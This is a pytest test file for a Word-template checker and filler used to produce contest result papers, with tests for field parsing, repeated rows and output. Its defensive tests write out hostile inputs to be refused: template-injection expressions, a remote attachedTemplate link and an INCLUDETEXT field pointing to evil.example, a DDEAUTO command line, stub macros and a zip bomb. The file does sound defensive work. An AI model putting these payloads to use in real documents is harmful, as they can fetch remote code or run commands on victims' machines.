"""Organizers' templates: fields are found however Word splits them, filled with text alone, refused by name."""

import io
import zipfile
from dataclasses import replace
from pathlib import Path

import docx
import pytest
from docx.oxml.ns import qn

from contest.errors.documents import FileRefused
from contest.errors.exports import (
    FieldBroken,
    FieldMisplaced,
    FieldUnknown,
    TemplateForbids,
    TemplateWithoutFields,
)
from contest.exports.sheet import Annex, Table
from contest.exports.templates.checking import check_template
from contest.exports.templates.fields import Offer, column_names, named
from contest.exports.templates.filling import fill
from contest.exports.templates.starting import write_starting
from tests.exports.drawn import drawn, kept
from tests.exports.papers import COLUMNS, ROWS, paper

NAMES = column_names(paper().tables[0])


def template(folder: Path, *paragraphs: str, row: tuple[str, ...] = ()) -> Path:
    """A template of these paragraphs and perhaps a table of a heading and one row."""
    return drawn(folder, *([row] if row else []), lines=paragraphs)


def checked(path: Path, columns=NAMES):
    offer = Offer({"": tuple(columns)}) if columns is not None else None
    return check_template(path, name="mau.docx", offer=offer)


def filled(path: Path, document=None):
    out = io.BytesIO()
    fill(path, document or paper(), out)
    return docx.Document(out)


def said(path: Path, document=None) -> list[str]:
    return [paragraph.text for paragraph in filled(path, document).paragraphs]


def repacked(path: Path, **members: bytes) -> Path:
    """The same file with members replaced or added."""
    with zipfile.ZipFile(path) as before:
        parts = {name: before.read(name) for name in before.namelist()} | members
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as after:
        for name, data in parts.items():
            after.writestr(name, data)
    return path


@pytest.mark.parametrize(
    ("typed", "name"),
    [
        ("tieu_de", "tieu_de"),
        (" Tiêu đề ", "tieu_de"),
        ("dong.ten_bai", "dong.ten_bai"),
        ("Dòng.Tên bài", "dong.ten_bai"),
        ("a.b.c", "a.b.c"),
        ("a.b.c.d", ""),
        ("x|safe", ""),
        ("", ""),
        ("7*7", ""),
    ],
)
def test_a_fields_name_however_typed(typed, name):
    assert named(typed) == name


def test_columns_are_called_by_their_headings_and_none_twice():
    assert NAMES[:4] == ("tt", "ma_phach", "ten_bai", "diem_ket_luan")
    twice = Table("", (COLUMNS[0], replace(COLUMNS[1], heading="TT")), ())
    assert column_names(twice) == ("tt", "tt_2")


def test_a_field_split_over_runs_is_found_and_takes_the_look_of_its_first_piece(tmp_path):
    made = docx.Document()
    line = made.add_paragraph("Tên: ")
    line.add_run("{{tie").bold = True
    line.add_run("u_")
    line.add_run("de}} và {").italic = True
    line.add_run("{so}}.")
    path = kept(made, tmp_path)
    assert checked(path) == ("tieu_de", "so")
    (paragraph,) = filled(path).paragraphs
    assert paragraph.text == "Tên: DANH SÁCH và 12-BC/BTC."
    assert next(run for run in paragraph.runs if "DANH" in run.text).bold


def test_a_paragraph_of_a_list_is_repeated_and_goes_when_there_is_none(tmp_path):
    path = template(tmp_path, "{{ghi_chu}}", "- {{noi_nhan}}", "{{kinh_gui}}", "Hết")
    assert said(path) == [
        "Điểm lấy đến hai chữ số thập phân.",
        "- Thường trực Huyện ủy;",
        "- Lưu BTC.",
        "Hết",
    ]


def test_a_row_is_repeated_for_every_row_and_simple_fields_may_stand_in_it(tmp_path):
    path = template(tmp_path, "x", row=("{{dong.tt}}", "{{dong.ten_bai}} ({{tieu_de}})", "{{tong.tt}}"))
    assert checked(path) == ("dong.tt", "dong.ten_bai", "tieu_de", "tong.tt")
    table = filled(path).tables[0]
    assert [cell.text for cell in table.rows[1].cells] == ["1", "Người giữ lửa then (DANH SÁCH)", ""]
    assert len(table.rows) == len(ROWS) + 1
    empty = filled(path, paper(rows=())).tables[0]
    assert len(empty.rows) == 1


def test_the_whole_is_laid_out_as_we_do_in_its_place_with_what_is_attached(tmp_path):
    path = template(tmp_path, "Trước", "{{bang}}", "Sau")
    annexed = replace(paper(), annexes=(Annex("PHỤ LỤC", parts=(paper().tables[0],)),))
    made = filled(path, annexed)
    texts = [p.text for p in made.paragraphs if p.text]
    assert texts[0] == "Trước"
    assert texts.index("I. Chung khảo") < texts.index("Sau") < texts.index("PHỤ LỤC")
    assert all(table.rows[0]._tr.trPr.find(qn("w:tblHeader")) is not None for table in made.tables)
    assert len(made.tables) == 2


def test_what_a_document_says_is_never_read_as_a_field(tmp_path):
    rows = [(1, "0912", "{{ho_ten_1}} {{tieu_de}}", None, None, None, None)]
    path = template(tmp_path, "{{doan_mo_dau}}", "{{bang}}", row=("{{dong.ten_bai}}",))
    made = filled(path, replace(paper(rows=rows), paragraphs=("Có {{so}} và {{bang}}.",)))
    assert "Có {{so}} và {{bang}}." in [p.text for p in made.paragraphs]
    assert [row.cells[0].text for row in made.tables[-1].rows][1:] == ["{{ho_ten_1}} {{tieu_de}}"]


def test_lines_become_breaks_and_the_same_file_is_the_same_bytes(tmp_path):
    path = template(tmp_path, "[{{chuc_vu_2}}]")
    (paragraph,) = filled(path).paragraphs
    assert paragraph.text == "[K/T TRƯỞNG BAN\nPHÓ TRƯỞNG BAN]"
    outs = [io.BytesIO(), io.BytesIO()]
    for out in outs:
        fill(path, paper(), out)
    assert outs[0].getvalue() == outs[1].getvalue()
    with zipfile.ZipFile(outs[0]) as packed:
        assert {info.date_time[0] for info in packed.infolist()} == {1980}
    assert docx.Document(outs[0]).core_properties.author == ""


def test_fields_of_headers_footers_and_text_boxes_are_filled_too(tmp_path):
    made = docx.Document()
    made.add_paragraph("{{tieu_de}}")
    made.sections[0].header.paragraphs[0].text = "{{co_quan_ban_hanh}}"
    path = kept(made, tmp_path)
    assert set(checked(path)) == {"tieu_de", "co_quan_ban_hanh"}
    assert filled(path).sections[0].header.paragraphs[0].text == "BAN TỔ CHỨC CUỘC THI"


def test_a_column_that_a_copy_leaves_out_stays_empty(tmp_path):
    path = template(tmp_path, "x", row=("{{dong.tt}}", "{{dong.tac_gia}}"))
    assert checked(path, (*NAMES, "tac_gia"))
    assert [cell.text for cell in filled(path).tables[0].rows[1].cells] == ["1", ""]


def test_our_own_layout_with_fields_is_taken_and_gives_back_the_paper(tmp_path):
    document, out = paper(), io.BytesIO()
    write_starting(document, document.letterhead, document, out)
    path = tmp_path / "start.docx"
    path.write_bytes(out.getvalue())
    checked(path)
    made = filled(path)
    assert made.tables[0].cell(1, 1).text == "Chi Lăng, ngày 05 tháng 02 năm 2026"
    assert [cell.text for cell in made.tables[1].rows[1].cells][2:4] == ["Người giữ lửa then", "85,50"]
    cells = [[p.text for p in cell.paragraphs if p.text] for cell in made.tables[-1].rows[0].cells]
    assert cells[0] == ["Nơi nhận:", "- Thường trực Huyện ủy;", "- Lưu BTC."]
    assert cells[1][-1] == "Nông Thị Mai"


def test_before_a_paper_can_be_made_its_template_lays_out_the_whole(tmp_path):
    document, out = paper(), io.BytesIO()
    write_starting(None, document.letterhead, replace(document, tables=(), signatures=()), out)
    path = tmp_path / "start.docx"
    path.write_bytes(out.getvalue())
    assert "bang" in checked(path, None)


@pytest.mark.parametrize(
    ("paragraph", "refusal", "field"),
    [
        ("{{ten_la}}", FieldUnknown, "ten_la"),
        ("{{dong.tt}}", FieldMisplaced, "dong.tt"),
        ("{{tieu_de}", FieldBroken, "{{tieu_de}"),
        ("tieu_de}}", FieldBroken, "}}"),
        ("{{}}", FieldBroken, "{{}}"),
        ("{{ 7*7 }}", FieldBroken, "7*7"),
        ("{{config.items()}}", FieldBroken, "config.items()"),
        ("Bảng: {{bang}}", FieldMisplaced, "bang"),
        ("{{noi_nhan}} {{ghi_chu}}", FieldMisplaced, "noi_nhan"),
        ("Không có ô nào", TemplateWithoutFields, ""),
    ],
)
def test_a_bad_field_is_refused_by_its_name(tmp_path, paragraph, refusal, field):
    with pytest.raises(refusal) as caught:
        checked(template(tmp_path, "Đoạn đầu", paragraph))
    assert field in caught.value.values.get("field", "")
    if field:
        assert caught.value.values["where"] == "đoạn 2"


def test_an_unknown_column_is_refused_with_table_and_row_and_any_while_none_is_known(tmp_path):
    path = template(tmp_path, row=("{{dong.tt}}", "{{dong.luong}}"))
    with pytest.raises(FieldUnknown) as caught:
        checked(path)
    assert (caught.value.values["field"], caught.value.values["where"]) == ("dong.luong", "bảng 1, dòng 2")
    with pytest.raises(FieldMisplaced):
        checked(path, None)


EXTERNAL = (
    b'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    b'<Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
    b'attachedTemplate" Target="http://evil.example/a.dotm" TargetMode="External"/></Relationships>'
)


@pytest.mark.parametrize(
    ("members", "what"),
    [
        ({"word/vbaProject.bin": b"x"}, "macro"),
        ({"word/embeddings/oleObject1.bin": b"x"}, "macro"),
        ({"word/_rels/settings.xml.rels": EXTERNAL}, "liên kết"),
    ],
)
def test_what_runs_or_fetches_is_refused(tmp_path, members, what):
    with pytest.raises(TemplateForbids) as caught:
        checked(repacked(template(tmp_path, "{{so}}"), **members))
    assert what in caught.value.values["what"]


@pytest.mark.parametrize(
    "instruction", ["INCLUDETEXT http://evil.example", "DDEAUTO c:\\\\cmd", "HYPERLINK x"]
)
def test_words_own_fields_that_fetch_are_refused_and_page_numbers_are_not(tmp_path, instruction):
    made = docx.Document()
    line = made.add_paragraph("{{so}}")
    field = line._p.makeelement(qn("w:fldSimple"), {qn("w:instr"): instruction})
    line._p.append(field)
    with pytest.raises(TemplateForbids):
        checked(kept(made, tmp_path))
    field.set(qn("w:instr"), " PAGE ")
    assert checked(kept(made, tmp_path)) == ("so",)


def test_tracked_changes_are_to_be_accepted_first(tmp_path):
    made = docx.Document()
    line = made.add_paragraph("{{so}}")
    line._p.append(line._p.makeelement(qn("w:ins"), {}))
    with pytest.raises(TemplateForbids):
        checked(kept(made, tmp_path))


@pytest.mark.parametrize("content", [b"", b"PK\x03\x04 broken", b"%PDF-1.7 no", b"plain text {{so}}"])
def test_what_is_no_word_file_is_refused(tmp_path, content):
    path = tmp_path / "mau.docx"
    path.write_bytes(content)
    with pytest.raises(FileRefused):
        checked(path)


def test_a_bomb_is_refused_before_it_is_unpacked(tmp_path):
    path = repacked(template(tmp_path, "{{so}}"), **{"word/media/x.bin": b"\0" * (20 * 1024 * 1024)})
    with pytest.raises(FileRefused):
        checked(path)
